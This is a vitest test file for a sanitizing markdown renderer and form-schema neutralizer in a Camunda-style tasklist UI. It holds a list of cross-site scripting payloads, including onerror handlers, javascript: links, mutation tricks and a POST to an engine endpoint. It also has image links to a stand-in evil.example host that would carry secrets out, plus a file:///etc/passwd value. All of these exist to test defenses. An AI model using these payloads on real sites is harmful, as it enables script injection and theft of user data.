/**
 * Form rendering without markup from data (issue 19, item 12): form-js text views go through our
 * markdown renderer, which never emits a tag it did not write, and `html` views become text views.
 * Unit level (no Chromium on this machine): the renderer's real output is scanned tag by tag.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isLocalImage, neutralizeFormSchema, renderSafeMarkdown, safeUrl } from '../../src/cockpit/ui/safe-markdown.js';

/** what marked writes for markdown: nothing else may appear */
const MARKDOWN_TAGS = new Set(['p', 'a', 'img', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input']);
const MARKDOWN_ATTRIBUTES = new Set(['href', 'src', 'alt', 'title', 'align', 'start', 'type', 'checked', 'disabled', 'class']);

function tagsOf(html: string): Array<{ name: string; attributes: string[]; raw: string }> {
  return [...html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)].map((m) => ({
    name: m[1]!.toLowerCase(),
    attributes: [...m[2]!.matchAll(/([^\s="']+)\s*(?:=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)].map((a) => a[1]!.toLowerCase()),
    raw: m[0],
  }));
}

const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  'Approve? <img src="x" onerror="fetch(\'/engine-rest/signal\',{method:\'POST\'})">',
  '<div>\n<img src=x onerror=alert(1)>\n</div>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click]( java\tscript:alert(1))',
  '![x](x" onerror="alert(1))',
  '![x](javascript:alert(1))',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example/x.css"</style>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<<img src=x onerror=alert(1)>img src=x onerror=alert(1)>',
];

describe('safe markdown for form-js text views', () => {
  it.each(PAYLOADS)('writes no tag or attribute of its own for %j', (payload) => {
    // as written in the form, and as a variable a template ({{note}}) inserts into a sentence
    for (const markdown of [payload, `Reviewer note: ${payload} (end)`]) {
      const html = renderSafeMarkdown(markdown);
      for (const tag of tagsOf(html)) {
        expect(MARKDOWN_TAGS.has(tag.name), `${tag.raw} in ${html}`).toBe(true);
        for (const attribute of tag.attributes) expect(MARKDOWN_ATTRIBUTES.has(attribute), `${tag.raw} in ${html}`).toBe(true);
      }
      expect(html).not.toMatch(/<[^>]*\bon\w+\s*=/i);
      expect(html).not.toMatch(/(href|src)\s*=\s*"\s*javascript:/i);
    }
  });

  it('keeps the text visible: markup is shown as literal characters, not dropped', () => {
    const html = renderSafeMarkdown('Score <b>0.91</b> & a < b');
    expect(html).toContain('&lt;b&gt;0.91&lt;/b&gt;');
    expect(html).toContain('a &lt; b');
  });

  it('still renders markdown: headings, emphasis, lists, code, safe links and images', () => {
    const html = renderSafeMarkdown('# Review\n**bold** _it_ `a < b`\n\n- one\n- two\n\n[docs](https://docs.camunda.io) [rel](/cockpit) ![chart](/cockpit/assets/c.png)');
    expect(html).toContain('<h1>Review</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>a &lt; b</code>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<a href="https://docs.camunda.io">docs</a>');
    expect(html).toContain('<a href="/cockpit">rel</a>');
    expect(html).toContain('<img src="/cockpit/assets/c.png" alt="chart">');
  });

  it('loads only local images; one from another host (which could carry templated data away) becomes a link', () => {
    const html = renderSafeMarkdown('![a](/x.png) ![b](data:image/png;base64,AA) ![c](https://evil.example/?k=SECRET) ![d](//evil.example/x)');
    expect(html).toContain('<img src="/x.png" alt="a">');
    expect(html).toContain('<img src="data:image/png;base64,AA" alt="b">');
    expect(html).toContain('<a href="https://evil.example/?k=SECRET">c</a>');
    expect(html).toContain('<a href="//evil.example/x">d</a>');
    expect(tagsOf(html).filter((t) => t.name === 'img')).toHaveLength(2);
    for (const local of ['/a.png', 'a.png', '../a.png', 'data:image/gif;base64,R0', '#']) expect(isLocalImage(local), local).toBe(true);
    for (const remote of ['https://evil.example/a.png', '//evil.example/a.png', 'http://127.0.0.1:9/x', ' https://e/x', 'data:text/html,x', 'javascript:x']) expect(isLocalImage(remote), remote).toBe(false);
  });

  it('keeps only http(s), mailto and relative link targets', () => {
    for (const ok of ['https://a.example/x', 'http://a', 'mailto:a@b.c', '/x/y', 'x.html', '#top', '?q=1']) expect(safeUrl(ok)).toBe(ok);
    for (const bad of ['javascript:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)', 'JAVASCRIPT:x', 'data:text/html,<script>', 'vbscript:x', 'file:///etc/passwd']) expect(safeUrl(bad)).toBe('#');
  });
});

describe('form schema neutralization', () => {
  it('turns html views (also nested in groups and dynamic lists) into text views with the same content, leaving the rest', () => {
    const schema = {
      type: 'default',
      id: 'review',
      components: [
        { type: 'html', id: 'h1', content: '<img src=x onerror=alert(1)>' },
        { type: 'textfield', key: 'comment', label: 'Comment' },
        { type: 'group', components: [{ type: 'dynamiclist', components: [{ type: 'html', content: '<b>x</b>' }] }] },
      ],
    };
    const copy = JSON.parse(JSON.stringify(schema));
    const safe = neutralizeFormSchema(schema);
    expect(schema).toEqual(copy); // the input is left as it was
    expect(safe.components[0]).toEqual({ type: 'text', id: 'h1', text: '<img src=x onerror=alert(1)>' });
    expect(safe.components[1]).toEqual(schema.components[1]);
    expect((safe.components[2] as any).components[0].components[0]).toEqual({ type: 'text', text: '<b>x</b>' }); // eslint-disable-line @typescript-eslint/no-explicit-any
    expect(JSON.stringify(safe)).not.toContain('"html"');
  });

  it('turns image views into text views whose markdown image follows the local-only rule (expressions are shown, not loaded)', () => {
    const safe = neutralizeFormSchema({ components: [
      { type: 'image', id: 'i1', source: 'https://evil.example/?{{secret}}', alt: 'Chart' },
      { type: 'image', id: 'i2', source: '=imageUrl' },
      { type: 'image', id: 'i3', source: '/cockpit/assets/logo.png', alt: 'Logo' },
    ] });
    expect(safe.components).toEqual([
      { type: 'text', id: 'i1', text: '![Chart](<https://evil.example/?{{secret}}>)' },
      { type: 'text', id: 'i2', text: 'Image from an expression, not loaded: `=imageUrl`' },
      { type: 'text', id: 'i3', text: '![Logo](</cockpit/assets/logo.png>)' },
    ]);
    expect(renderSafeMarkdown('![Chart](<https://evil.example/?q=SECRET>)')).toContain('<a href="https://evil.example/?q=SECRET">Chart</a>');
    expect(renderSafeMarkdown((safe.components[2] as unknown as { text: string }).text)).toContain('<img src="/cockpit/assets/logo.png" alt="Logo">');
  });

  it('is what the tasklist hands to form-js, with the safe markdown renderer in place of form-js\'s own', () => {
    const source = readFileSync(join(import.meta.dirname, '..', '..', 'src', 'cockpit', 'ui', 'task-form.ts'), 'utf8');
    expect(source).toMatch(/importSchema\(neutralizeFormSchema\(schema\)/);
    expect(source).toMatch(/new Form\(\{ container, additionalModules: \[safeMarkdownModule\] \}\)/);
    expect(source).toMatch(/markdownRenderer: \['value', \{ render: renderSafeMarkdown \}\]/);
  });
});
